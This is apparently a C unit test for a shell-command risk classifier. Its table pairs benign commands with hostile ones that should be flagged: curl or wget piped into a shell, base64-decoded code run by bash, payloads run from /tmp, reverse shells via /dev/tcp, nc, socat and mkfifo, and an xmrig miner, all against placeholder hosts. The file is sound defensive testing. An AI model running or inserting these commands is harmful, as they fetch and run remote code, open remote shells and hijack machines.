/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "base/diag.h"
#include "facts/linux/command_risk.h"
#include "tap.h"

static const struct {
	const char *command, *risk; /* the start of what is said; NULL: nothing */
} rows[] = {
	{"curl -fsSL https://x.example/i.sh | bash",                                        "pipes"      },
	{ "wget -qO- http://x.example/i|sh",						"pipes"      },
	{ "curl -s http://x.example/a | sudo -E bash -",                                    "pipes"      },
	{ "curl -s http://x.example/a | tee /var/log/a | /bin/sh -s -- -q",                 "pipes"      },
	{ "(curl -s x.example||wget -qO- x.example)|sh",                                    "pipes"      },
	{ "/usr/bin/curl x.example | python3.11 -",                                         "pipes"      },
	{ "bash -c \"$(curl -fsSL https://x.example)\"",                                    "pipes"      },
	{ "bash <(wget -qO- https://x.example)",                                            "pipes"      },
	{ "eval `curl -s x.example`",						       "pipes"      },
	{ "source <(curl -s x.example)",						    "pipes"      },
	{ "sh -c 'curl x.example | sh' >/dev/null 2>&1",                                    "pipes"      },
	{ "/bin/bash -lc \"wget -O - x.example | bash\"",                                   "pipes"      },
	{ "echo aGkK | base64 -d | bash",						   "runs code"  },
	{ "echo aGkK | base64 --decode | sudo sh",                                          "runs code"  },
	{ "bash -c \"$(echo aGkK | base64 -d)\"",                                           "runs code"  },
	{ "/tmp/.x/run",								    "runs a file"},
	{ "-/tmp/x; /usr/bin/y",							    "runs a file"},
	{ "cd / && /dev/shm/kdev",							  "runs a file"},
	{ "sleep 1; sh /var/tmp/a.sh",						      "runs a file"},
	{ "nohup /tmp/x &",								 "runs a file"},
	{ "python3 -u /tmp/x.py",							   "runs a file"},
	{ ". /tmp/env",								     "runs a file"},
	{ "wget -q x.example -O /tmp/x; chmod +x /tmp/x; /tmp/x",                           "runs a file"},
	{ "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",                                        "gives"      },
	{ "nc -e /bin/sh 192.0.2.1 4444",						   "gives"      },
	{ "ncat --sh-exec /bin/sh 192.0.2.1 4444",                                          "gives"      },
	{ "socat tcp:192.0.2.1:1 exec:/bin/sh",                                             "gives"      },
	{ "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 1 >/tmp/f",
         "runs a"											},
	{ "python3 -c 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0)'",          "gives"      },
	{ "/opt/x/xmrig -o stratum+tcp://pool.example:3333",                                "mines"      },
	{ "",									       NULL         },
	{ "/usr/bin/certbot -q renew",						      NULL         },
	{ "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",    NULL         },
	{ "curl -fsS https://status.example/ping >/dev/null || sh /usr/local/bin/alarm",    NULL         },
	{ "curl -s https://x.example/ips | shuf | tee /usr/share/x",                        NULL         },
	{ "curl -s x.example/a.json | jq .",						NULL         },
	{ "echo done # curl x | sh",							NULL         },
	{ "find /tmp/cache -mtime +3 -delete",                                              NULL         },
	{ "rm -rf /tmp/build",							      NULL         },
	{ "tar czf /tmp/x.tgz /etc",							NULL         },
	{ "[ -x /tmp/x ] && rm /tmp/x",						     NULL         },
	{ "x=$(curl -s x.example); echo \"$x\"",                                            NULL         },
	{ "sh /usr/local/bin/report \"$(curl -s x.example)\"",                              NULL         },
	{ "gunzip -c /var/log/x.gz | sh /opt/report/run",                                   NULL         },
	{ "flock -n /tmp/job.lock /usr/local/bin/job",                                      NULL         },
	{ "nc -z localhost 22",							     NULL         },
	{ "openssl s_client -connect x.example:443 | openssl x509 -enddate",                NULL         },
	{ "curl x.example\nls | sh /opt/a",						 NULL         },
};

int main(void)
{
	for (size_t i = 0; i < COUNT(rows); i++) {
		const char *risk = command_risk(str_of(rows[i].command));
		bool same = rows[i].risk ? str_starts(str_of(risk), str_of(rows[i].risk)) : !*risk;

		char name[256];

		/* A name of TAP is one line. */
		text_safe(str_of(rows[i].command), name, sizeof name);
		if (!ok(same, name))
			printf("# said \"%s\"\n", risk);
	}
	return done();
}
